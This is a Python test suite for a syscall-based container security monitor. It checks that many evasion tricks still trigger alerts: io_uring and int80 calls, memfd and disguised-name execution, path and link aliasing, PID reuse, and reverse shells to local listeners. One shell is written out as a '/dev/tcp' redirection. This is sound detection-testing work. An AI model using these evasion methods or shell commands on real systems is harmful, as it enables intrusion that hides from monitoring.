#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Acts done plainly and in ways that hide them from who looks at system calls and their arguments, in a
runc container: each way raises the alert that the plain one does, of that very process and container.
"""

import pathlib
import shutil
import socket
import tempfile
import unittest

from harness import TOOLS, Listener, wait_until
from watched import Watched

RULES = """
- rule: Opened by name
  desc: The file that this is about, by its path.
  condition: evt.type in (open, openat, openat2) and fd.name = /node/secret-a
  output: opened | file=%fd.name pid=%proc.pid exe=%proc.exe command=%proc.cmdline
  priority: NOTICE
- rule: Opened by any name
  desc: The same file, whatever it is called.
  condition: evt.type in (open, openat, openat2) and fd.ino = {inode}
  output: opened | file=%fd.name pid=%proc.pid exe=%proc.exe command=%proc.cmdline
  priority: NOTICE
- rule: Connected
  desc: To the port that this is about.
  condition: evt.type = connect and fd.sport = {port}
  output: connected | connection=%fd.name exe=%proc.exe command=%proc.cmdline
  priority: NOTICE
- rule: Executed
  desc: The program that this is about.
  condition: evt.type in (execve, execveat) and proc.exepath = /bin/evil
  output: executed | pid=%proc.pid exe=%proc.exe command=%proc.cmdline
  priority: NOTICE
- rule: Directory made
  desc: One whose name begins as this says.
  condition: evt.type in (mkdir, mkdirat) and fs.path.name startswith /tmp/made
  output: made | exe=%proc.exe command=%proc.cmdline
  priority: NOTICE
- rule: Name removed
  desc: One that begins as this says.
  condition: evt.type in (unlink, unlinkat) and fs.path.name startswith /tmp/removed
  output: removed | exe=%proc.exe command=%proc.cmdline
  priority: NOTICE
- rule: Name changed
  desc: One that begins as this says.
  condition: evt.type in (rename, renameat, renameat2) and fs.path.source startswith /tmp/from
  output: renamed | exe=%proc.exe command=%proc.cmdline
  priority: NOTICE
- rule: Name added
  desc: One that leads to the file that this is about.
  condition: >
    evt.type in (link, linkat, symlink, symlinkat) and fs.path.source startswith /tmp/added
    and fs.path.target = /tmp/what
  output: added | exe=%proc.exe command=%proc.cmdline
  priority: NOTICE
"""

# Calls that a 32-bit program makes by other numbers, and what must be told of them besides their name. In evade/calls.c.
# Not here: what has rows of its own below; kill, which is seen as it is delivered, by whichever call; module and kexec
# loading, which would change the machine (tests/bpf/ makes these calls, both ways).
CALLS = {
    "unshare": "evt.args contains CLONE_NEWUTS",
    "setns": "evt.failed = false",
    "chroot": "evt.args contains /tmp",
    "umount2": "evt.args contains /tmp/um",
    "chmod": "fs.path.name = /tmp/what",
    "chown": "fs.path.name = /tmp/what",
    "mknod": "fs.path.name startswith /tmp/node",
    "utimensat": "fs.path.name = /tmp/what",
    "ptrace": "evt.args contains PTRACE_TRACEME",
    "pidfd_open": "evt.failed = false",
    "memfd_create": "evt.args contains payload",
    "keyctl": "evt.failed = false",
    "io_uring_setup": "evt.failed = false",
    "userfaultfd": "evt.failed = false",
    "setuid": "evt.failed = false",
    "setresgid": "evt.failed = false",
    "fsopen": "evt.args contains tmpfs",
    "open_tree": "evt.args contains /tmp",
    "socket": "evt.args contains AF_PACKET",
}
PATHS = {"umount2": "/tmp/um{}", "mknod": "/tmp/node{}"}
RULES += "".join(f"""
- rule: Called {name}
  desc: In the way that this is about.
  condition: evt.type = {name} and {condition}
  output: called | arguments=%evt.args exe=%proc.exe command=%proc.cmdline
  priority: NOTICE
""" for name, condition in CALLS.items())

SECRET = "/node/secret-a"
NAMELESS = "Program without a name executed in a container"
CGROUP = "Container mounts a cgroup hierarchy"

# The rule, and the words of each command; {port} and {decoy} are listened to. The first row of a
# rule is the plain way.
WAYS = (
    ("Opened by name", f"open {SECRET}"),
    ("Opened by name", f"open-openat2 {SECRET}"),
    ("Opened by name", f"open-dirfd {SECRET}"),
    ("Opened by name", f"open-cwd {SECRET}"),
    ("Opened by name", f"open-int80 {SECRET}"),
    ("Opened by name", f"open-uring {SECRET}"),
    ("Opened by name", f"open-sqpoll {SECRET}"),
    ("Opened by name", f"open-rewritten {SECRET} b"),
    ("Opened by name", f"open-deep {SECRET}"),
    ("Opened by name", "open /node/soft"),
    ("Opened by name", "open /node/../bin/../node/./secret-a"),
    ("Opened by name", f"open /proc/self/root{SECRET}"),
    ("Opened by name", f"move-unshare {SECRET}"),
    ("Opened by name", f"move-setns {SECRET} /proc/self/ns/uts"),
    ("Opened by name", f"move-clone3 {SECRET} /tmp/cg"),
    ("Opened by name", f"move-cgroup {SECRET} /tmp/cg/cgroup.procs"),
    ("Opened by any name", f"open {SECRET}"),
    ("Opened by any name", "open /node/hard"),
    ("Opened by any name", "open /tmp/bound"),
    ("Opened by any name", "open-int80 /node/hard"),
    ("Connected", "connect {port}"),
    ("Connected", "connect-int80 {port}"),
    ("Connected", "connect-socketcall {port}"),
    ("Connected", "connect-uring {port}"),
    ("Connected", "connect-sqpoll {port}"),
    ("Connected", "connect-fastopen {port}"),
    ("Connected", "connect-fastopen-later {port}"),
    ("Connected", "connect-rewritten {port} {decoy}"),
    ("Connected", "datagram {port}"),
    ("Connected", "datagram-sendto {port}"),
    ("Connected", "datagram-sendmmsg {port}"),
    ("Connected", "datagram-raw {port}"),
    ("Connected", "datagram-socketcall {port}"),
    ("Connected", "datagram-uring {port}"),
    ("Executed", "exec /bin/evil exec"),
    ("Executed", "exec-fexecve /bin/evil exec-fexecve"),
    ("Executed", "exec-empty-path /bin/evil exec-empty-path"),
    ("Executed", "exec-proc-fd /bin/evil exec-proc-fd"),
    ("Executed", "exec-int80 /bin/evil exec-int80"),
    ("Executed", "exec-rewritten /bin/evil exec-rewritten k"),
    ("Executed", "exec-disguised /bin/evil kworker/0:1"),
    ("Executed", "exec /tmp/innocent innocent"),
    ("Executed", "exec /tmp/script /tmp/script"),
    (NAMELESS, "exec-memfd /bin/evil evil from-memory"),
    (NAMELESS, "exec-unlinked /bin/evil evil from-nowhere"),
    ("Directory made", "mkdir /tmp/made-0"),
    ("Directory made", "mkdir-int80 /tmp/made-1"),
    ("Directory made", "mkdir-uring /tmp/made-2"),
    ("Name removed", "unlink /tmp/removed-0"),
    ("Name removed", "unlink-int80 /tmp/removed-1"),
    ("Name removed", "unlink-uring /tmp/removed-2"),
    ("Name changed", "rename /tmp/from-0 /tmp/to-0"),
    ("Name changed", "rename-int80 /tmp/from-1 /tmp/to-1"),
    ("Name changed", "rename-uring /tmp/from-2 /tmp/to-2"),
    ("Name added", "link /tmp/what /tmp/added-0"),
    ("Name added", "link-int80 /tmp/what /tmp/added-1"),
    ("Name added", "link-uring /tmp/what /tmp/added-2"),
    ("Name added", "symlink /tmp/what /tmp/added-3"),
    ("Name added", "symlink-int80 /tmp/what /tmp/added-4"),
    ("Name added", "symlink-sqpoll /tmp/what /tmp/added-5"),
    (CGROUP, "mount /tmp/m0"),
    (CGROUP, "mount-int80 /tmp/m1"),
    (CGROUP, "mount-new-api /tmp/m2"),
    (CGROUP, "mount-rewritten /tmp/m3"),
    *((f"Called {name}", f"{way} {name} {PATHS.get(name, '').format(number)}".strip())
      for name in CALLS for number, way in enumerate(("call", "call-int80"))),
)

PREPARATION = """
mkdir -p /tmp/cg /tmp/m0 /tmp/m1 /tmp/m2 /tmp/m3 /tmp/um0 /tmp/um1
mount -t cgroup2 none /tmp/cg
for i in 0 1; do mount -t tmpfs none /tmp/um$i; done
for i in 0 1 2; do : >/tmp/removed-$i; : >/tmp/from-$i; done
: >/tmp/what
: >/tmp/bound
mount -o bind /node/secret-a /tmp/bound
/bin/busybox ln -s /bin/evil /tmp/innocent
echo '#!/bin/evil' >/tmp/script
/bin/busybox chmod 755 /tmp/script
"""

# How the shell gets its connection. The last listens itself.
SHELLS = ("shell-dup2", "shell-dup", "shell-fcntl", "shell-int80", "shell-passed")
PROGRAM_SAYS_USAGE = 98  # what /bin/evil ends with

# Another process has the connection: what the shell's standard input is instead. Of a terminal there is no alert: a
# program that gives a shell one is what each ssh server and each terminal is, and no event says that what comes over it
# came over the connection, too.
RELAYS = (("relay-pipe", "pipe"), ("relay-socketpair", "unix"), ("relay-terminal", None))


class Evasion(Watched):
    @classmethod
    def setUpClass(cls):
        cls.node = pathlib.Path(tempfile.mkdtemp(prefix="nezuban-evasion-"))
        cls.addClassCleanup(shutil.rmtree, cls.node)
        (cls.node / "secret-a").write_text("secret\n")
        (cls.node / "secret-b").write_text("decoy\n")
        (cls.node / "soft").symlink_to("secret-a")
        (cls.node / "hard").hardlink_to(cls.node / "secret-a")
        cls.peer, cls.decoy = Listener(), Listener()
        for listener in (cls.peer, cls.decoy):
            listener.socket.listen(4096)
            cls.addClassCleanup(listener.close)
        rules = cls.node / "evasion.yaml"
        rules.write_text(RULES.format(inode=(cls.node / "secret-a").stat().st_ino, port=cls.peer.port))
        cls.extra_rules = (rules,)
        super().setUpClass()

    def test_every_way_raises_the_alert_of_the_plain_one(self):
        commands = [words.format(port=self.peer.port, decoy=self.decoy.port) for _, words in WAYS]
        script = PREPARATION + "".join(f"/bin/evade {command}; echo way {number} $?\n"
                                       for number, command in enumerate(commands))
        container = self.make_container("/bin/sh", "-c", script, privileged=True, mounts={"/node": self.node})
        shutil.copy(TOOLS / "evade", container.rootfs / "bin" / "evil")
        code, printed = container.start().finish()
        self.assertEqual(code, 0, printed)
        for number, ((rule, _), command) in enumerate(zip(WAYS, commands)):
            with self.subTest(command):
                executes = command.startswith("exec")
                self.assertIn(f"way {number} {PROGRAM_SAYS_USAGE if executes else 0}\n", printed)
                mark = command.split()[3 if rule == NAMELESS else 2] if executes else f"evade {command}"
                self.watch.wait_for(
                    lambda a: a["rule"] == rule and a["origin"] == container.id
                    and (mark in (a["output_fields"].get("proc.exe"), a["output_fields"]["proc.cmdline"])
                         or a["output_fields"]["proc.cmdline"].endswith(" " + mark)), f"{rule}: {mark}")

    def expect_shell(self, container, port):
        self.watch.wait_for(lambda a: a["rule"] == "Reverse shell" and a["origin"] == container.id
                            and str(port) in a["output_fields"]["proc.stdin.name"], f"a shell on {port}")

    def test_every_way_to_put_a_shell_on_a_connection(self):
        attackers = [Listener() for _ in SHELLS]
        for attacker in attackers:
            self.addCleanup(attacker.close)
        container = self.container("/bin/sh", "-c", "".join(
            f"/bin/evade {way} {attacker.port}\n" for way, attacker in zip(SHELLS, attackers)))
        for way, attacker in zip(SHELLS, attackers):
            with self.subTest(way):
                self.assertIn("42", attacker.converse("echo $((6*7))")[0])
                self.expect_shell(container, attacker.port)

    def test_shells_behind_relays(self):
        attackers = [Listener() for _ in RELAYS]
        for attacker in attackers:
            self.addCleanup(attacker.close)
        container = self.container("/bin/sh", "-c", "".join(
            f"/bin/evade {way} {attacker.port}\n" for (way, _), attacker in zip(RELAYS, attackers)))
        for (way, stdin), attacker in zip(RELAYS, attackers):
            with self.subTest(way):
                self.assertIn("42", attacker.converse("echo $((6*7))")[0])
                if stdin is not None:
                    self.watch.wait_for(
                        lambda a: a["rule"] == "Shell takes its commands from a pipe" and a["origin"] == container.id
                        and a["output_fields"]["proc.stdin.type"] == stdin, way)

    def test_a_shell_that_the_loader_starts(self):
        attacker = Listener()
        self.addCleanup(attacker.close)
        container = self.container("/bin/evade", "shell-loaded", str(attacker.port), "/usr/bin/bash")
        self.assertIn("42", attacker.converse("echo $((6*7))")[0])
        self.expect_shell(container, attacker.port)

    def test_a_shell_that_the_loader_starts_with_options(self):
        attacker = Listener()
        self.addCleanup(attacker.close)
        loader = "/lib64/ld-linux-x86-64.so.2 --argv0 x --inhibit-cache /usr/bin/bash"
        container = self.container(
            "/usr/bin/bash", "-c", f"exec {loader} <>/dev/tcp/127.0.0.1/{attacker.port} >&0 2>&0")
        self.assertIn("42", attacker.converse("echo $((6*7))")[0])
        self.watch.wait_for(lambda a: a["rule"] == "Reverse shell" and a["origin"] == container.id
                            and "ld-linux" in a["output_fields"]["proc.exepath"], "a loader with options")

    def test_a_copy_of_a_shell_by_another_name(self):
        for parent, copied in ((), "bin/worker"), (("/bin/sh", "-c", '"$@"; true', "sh"), "tmp/worker"):
            with self.subTest(copied):
                attacker = Listener()
                self.addCleanup(attacker.close)
                command = "/bin/evade", "shell-renamed", str(attacker.port), f"/{copied}"
                container = self.make_container(*parent, *command)
                shutil.copy(shutil.which("bash"), container.rootfs / copied)
                container.start()
                self.assertIn("42", attacker.converse("echo $((6*7))")[0])
                self.watch.wait_for(lambda a: a["rule"] == "Program started on a network connection"
                                    and a["origin"] == container.id, "a renamed shell")

    def test_a_pid_that_another_had_before(self):
        container = self.make_container("/bin/evade", "pid-reused", SECRET, privileged=True, host_pid=True,
                                        mounts={"/node": self.node})
        shutil.copy(TOOLS / "evade", container.rootfs / "bin" / "evil")
        code, printed = container.start().finish()
        self.assertEqual(code, 0, printed)
        before = self.watch.wait_for(
            lambda a: a["rule"] == "Executed" and a["origin"] == container.id, "who was before")[0]
        opened = self.watch.wait_for(
            lambda a: a["rule"] == "Opened by name" and a["origin"] == container.id, "who came after")[0]
        self.assertEqual(opened["output_fields"]["proc.pid"], before["output_fields"]["proc.pid"])
        self.assertIn("who-was-before", before["output_fields"]["proc.cmdline"])
        self.assertEqual(opened["output_fields"]["proc.cmdline"], f"evade pid-reused {SECRET}")

    def test_a_shell_that_listens(self):
        free = Listener()
        port = free.port
        free.close()
        container = self.container("/bin/evade", "shell-listen", str(port))

        def connected():
            try:
                return socket.create_connection(("127.0.0.1", port))
            except ConnectionRefusedError:
                return None

        with wait_until(connected, "the shell to listen") as peer:
            peer.sendall(b"exit\n")
            self.expect_shell(container, port)


if __name__ == "__main__":
    unittest.main(verbosity=2)
